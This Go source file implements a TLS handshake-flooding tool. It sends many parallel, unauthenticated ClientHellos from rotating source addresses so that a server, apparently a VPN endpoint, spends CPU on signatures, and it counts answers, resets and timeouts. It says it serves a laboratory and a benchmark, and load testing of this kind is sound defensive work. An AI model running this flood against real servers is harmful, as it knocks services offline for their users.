// Package storm makes storms of TLS hellos, as an attacker without an account can:
// each makes the server sign, and costs the attacker almost nothing. The laboratory
// and the benchmark use it.
package storm

import (
	"context"
	"crypto/tls"
	"errors"
	"fmt"
	"net"
	"net/netip"
	"os"
	"sync"
	"sync/atomic"
	"time"
)

// Config of a storm.
type Config struct {
	To       netip.AddrPort
	Sources  []netip.Addr // local; connections take turns
	Parallel int          // connections at one time
	For      time.Duration
}

// Result of a storm, in connections.
type Result struct {
	Answered int64  // the server signed
	Refused  int64  // reset, or closed
	Silent   int64  // no answer within patience
	Failed   int64  // did not even connect
	Fault    string // of the last that failed
}

// patience is how long a connection waits for an answer.
const patience = 10 * time.Second

// Run sends hellos until its time is over or ctx ends. An answer is not read: its
// first byte says that the server has computed.
func Run(ctx context.Context, cfg Config) (Result, error) {
	if len(cfg.Sources) == 0 || cfg.Parallel <= 0 {
		return Result{}, errors.New("a storm needs sources and a number of connections")
	}
	hello, err := Hello()
	if err != nil {
		return Result{}, err
	}
	ctx, cancel := context.WithTimeout(ctx, cfg.For)
	defer cancel()
	var next, answered, refused, silent, failed atomic.Int64
	var fault atomic.Pointer[string]
	var wg sync.WaitGroup
	for range cfg.Parallel {
		wg.Go(func() {
			for ctx.Err() == nil {
				from := cfg.Sources[int(next.Add(1))%len(cfg.Sources)]
				switch err := one(ctx, from, cfg.To, hello); {
				case err == nil:
					answered.Add(1)
				case ctx.Err() != nil:
				case errors.Is(err, os.ErrDeadlineExceeded):
					silent.Add(1)
				case errors.Is(err, errNoAnswer):
					refused.Add(1)
				default:
					failed.Add(1)
					fault.Store(new(err.Error()))
				}
			}
		})
	}
	wg.Wait()
	r := Result{Answered: answered.Load(), Refused: refused.Load(), Silent: silent.Load(), Failed: failed.Load()}
	if f := fault.Load(); f != nil {
		r.Fault = *f
	}
	return r, nil
}

var errNoAnswer = errors.New("the connection ended without an answer")

func one(ctx context.Context, from netip.Addr, to netip.AddrPort, hello []byte) error {
	d := net.Dialer{Timeout: patience, LocalAddr: net.TCPAddrFromAddrPort(netip.AddrPortFrom(from, 0)), KeepAlive: -1}
	c, err := d.DialContext(ctx, "tcp", to.String())
	if err != nil {
		return err
	}
	defer c.Close()
	stop := context.AfterFunc(ctx, func() { c.Close() })
	defer stop()
	_ = c.(*net.TCPConn).SetLinger(0) // no port waits behind it
	_ = c.SetDeadline(time.Now().Add(patience))
	if _, err := c.Write(hello); err != nil {
		return errNoAnswer
	}
	var first [1]byte
	if _, err := c.Read(first[:]); errors.Is(err, os.ErrDeadlineExceeded) {
		return err
	} else if err != nil {
		return errNoAnswer
	}
	return nil
}

// Hello is what a client says first, with the groups that Windows offers.
func Hello() ([]byte, error) {
	here, there := net.Pipe()
	defer there.Close()
	go func() {
		defer here.Close()
		_ = tls.Client(here, &tls.Config{ServerName: "vpn.example.com", CurvePreferences: []tls.CurveID{tls.X25519, tls.CurveP256, tls.CurveP384}}).Handshake()
	}()
	buf := make([]byte, 16<<10)
	n, err := there.Read(buf) // it comes in one write
	if err != nil {
		return nil, fmt.Errorf("make a hello: %w", err)
	}
	return buf[:n], nil
}
